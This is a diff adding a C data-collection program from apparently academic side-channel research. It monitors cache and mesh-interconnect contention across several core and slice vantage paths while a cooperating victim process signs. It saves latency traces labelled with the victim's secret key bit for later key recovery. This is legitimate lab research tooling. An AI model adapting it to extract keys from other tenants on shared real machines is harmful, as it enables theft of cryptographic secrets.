@@ -0,0 +1,214 @@
+#include "../util/util.h"
+#include "scutil/dont-mesh-around.h"
+#include "../util/machine_const.h"
+#include "../util/multi_vantage.h"
+#include "../util/host_profile.h"
+
+#include <string.h>
+
+#define MAXSAMPLES 100000
+#define MAX_RETAKES 10 /* Consecutive re-takes before keeping an interrupted trace */
+#define VICTIM_TIMEOUT_CYCLES 10000000000UL /* Time given to the victim to reach (and end) the iteration of interest */
+
+/*
+ * Same as mesh-monitor, but monitors several (core, slice) paths at once with
+ * one thread per path, so that a single collection run can be used to find the
+ * best vantage path. Each trace has one "<tsc> <vantage> <latency>" line per
+ * sample, ordered by TSC, where vantage is the index of the path in the
+ * command line (see split_multi_vantage in orchestrator.py).
+ */
+int main(int argc, char **argv)
+{
+	// Check arguments
+	if (argc < 4 || argc - 3 > MAX_VANTAGES) {
+		fprintf(stderr, "Wrong Input! Enter repetitions, iteration of interest and up to %d vantages (core ID:slice ID)!\n", MAX_VANTAGES);
+		fprintf(stderr, "Enter: %s <repetitions> <iteration_of_interest> <core_ID>:<slice_ID> [<core_ID>:<slice_ID> ...]\n", argv[0]);
+		exit(1);
+	}
+
+	// Parse repetitions
+	int repetitions;
+	sscanf(argv[1], "%d", &repetitions);
+	if (repetitions <= 0) {
+		fprintf(stderr, "Wrong repetitions! repetitions should be greater than 0!\n");
+		exit(1);
+	}
+
+	// Parse victim iteration to attack
+	int victim_iteration_no;
+	sscanf(argv[2], "%d", &victim_iteration_no);
+	if (victim_iteration_no <= 0) {
+		printf("Wrong victim_iteration_no! victim_iteration_no_1 should be greater than 0!\n");
+		exit(1);
+	}
+
+	// Parse vantages
+	int nr_vantages = argc - 3;
+	int cores[MAX_VANTAGES], slices[MAX_VANTAGES];
+	for (int i = 0; i < nr_vantages; i++) {
+		if (multi_vantage_parse(argv[3 + i], &cores[i], &slices[i]) != 0) {
+			fprintf(stderr, "Wrong vantage %s! core_ID and slice_ID should be in the range [0, %d]!\n", argv[3 + i], NUM_CHA - 1);
+			exit(1);
+		}
+		for (int j = 0; j < i; j++) {
+			if (cores[j] == cores[i]) {
+				fprintf(stderr, "Wrong vantage %s! Each vantage needs its own core!\n", argv[3 + i]);
+				exit(1);
+			}
+		}
+	}
+
+	// Create file shared with victim
+	volatile struct sharestruct *sharestruct = get_sharestruct();
+
+	// Wait for the victim without spinning on the shared struct
+	struct handshake hs;
+	handshake_init(&hs, sharestruct);
+	fprintf(stderr, "Handshake: %s\n", handshake_name(&hs));
+
+	//////////////////////////////////////////////////////////////////////
+	// Set up memory
+	//////////////////////////////////////////////////////////////////////
+
+	// Same sets as mesh-monitor for each vantage: the monitoring set spans
+	// 32 pairs of LLC sets on the vantage's slice, and the EV the same sets
+	// on the local slice of the vantage's core. As in mesh-monitor, a trace
+	// is only valid if it did not wrap around the monitoring set.
+	int set_ID = 4;
+	int total_sets = 32;
+	int monitoring_set_size = 16;
+	int ev_size = 16;
+	int max_samples = total_sets * monitoring_set_size;
+	static struct multi_vantage mv;
+	multi_vantage_init(&mv, nr_vantages, cores, slices, set_ID, total_sets, monitoring_set_size, ev_size, 1, max_samples);
+
+	//////////////////////////////////////////////////////////////////////
+	// Done setting up memory
+	//////////////////////////////////////////////////////////////////////
+
+	fprintf(stderr, "READY\n");
+
+	// Warm up
+	for (int i = 0; i < 1000; i++) {
+		multi_vantage_arm(&mv);
+		multi_vantage_go(&mv, get_time(), UINT64_MAX);
+		multi_vantage_wait(&mv);
+	}
+
+	//////////////////////////////////////////////////////////////////////
+	// Ready to go
+	//////////////////////////////////////////////////////////////////////
+
+	// Start with a randomized key
+	sharestruct->use_randomized_key = 1;
+
+	// Capture one iteration per request (see mesh-monitor-multi-iteration)
+	sharestruct->capture_iterations = 0;
+
+	// Wait between two traces until the noise of the previous victim run has
+	// decayed (the cooldown_cycles of the latency profile, as measured by
+	// mesh-monitor)
+	static struct cooldown cool;
+	cooldown_init(&cool, host_profile_get_int_or(HOST_PROFILE_LATENCY, "cooldown_cycles", COOLDOWN_MAX_CYCLES));
+	cooldown_start(&cool, &hs);
+
+	// Collect data
+	uint8_t actual_bit;
+	int rept_index;
+	int retakes = 0;
+	for (rept_index = 0; rept_index < repetitions; rept_index++) {
+		// Make it so that the victim switches to a randomized key for this rept
+		// FIXME: remove to use the same (default) key always
+		sharestruct->use_randomized_key = 1;
+
+		// Read addresses from the monitoring sets into cache and evict
+		// them from the private caches
+		multi_vantage_arm(&mv);
+
+		// Wait for the rest of the cooldown
+		cooldown_wait(&cool);
+
+		// Double-check that the victim has not started yet
+		if (sharestruct->iteration_of_interest_running) {
+			fprintf(stderr, "victim already started?\n");
+		}
+
+		// Request the victim to sign
+		sharestruct->sign_requested = victim_iteration_no;
+
+		// Wait for the victim's iteration of interest to start
+		int started = handshake_wait_start(&hs, VICTIM_TIMEOUT_CYCLES);
+
+		// Monitor until the victim's iteration of interest ends
+		uint64_t start = get_time();
+		multi_vantage_go(&mv, start, UINT64_MAX);
+		if (!started) {
+			multi_vantage_stop(&mv);
+			fprintf(stderr, "Missed run; %d\n", rept_index);
+			rept_index--;
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+		int ended = handshake_wait_end(&hs, VICTIM_TIMEOUT_CYCLES);
+		multi_vantage_stop(&mv);
+		if (!ended) {
+			fprintf(stderr, "Missed run; %d\n", rept_index);
+			rept_index--;
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+
+		// Re-take the trace if it was interrupted
+		if (multi_vantage_gaps(&mv) > 0 && retakes < MAX_RETAKES) {
+			fprintf(stderr, "Interrupted run; %d\n", rept_index);
+			rept_index--;
+			retakes++;
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+		retakes = 0;
+
+		// Skip the trace if any vantage had to wrap around its monitoring set
+		int wrapped = 0;
+		for (int k = 0; k < nr_vantages; k++) {
+			wrapped |= mv.v[k].nr_samples >= max_samples;
+		}
+		if (wrapped) {
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+
+		// Get the actual bit (ground truth)
+		actual_bit = sharestruct->bit_of_the_iteration_of_interest;
+
+		// Prepare data output file
+		char output_data_fn[64];
+		sprintf(output_data_fn, "./out-multi-vantage/%04d_data_%04d_%" PRIu8 ".out", rept_index, victim_iteration_no, actual_bit);
+		FILE *output_data;
+		if (!(output_data = fopen(output_data_fn, "w"))) {
+			perror("fopen");
+			exit(1);
+		}
+
+		// Store the samples to disk
+		multi_vantage_write_merged(&mv, output_data, start);
+
+		// Wait for the victim to be back at its wait loop
+		cooldown_start(&cool, &hs);
+
+		// Close the files for this trace
+		fclose(output_data);
+	}
+
+	// Free the buffers
+	multi_vantage_destroy(&mv);
+
+	return 0;
+}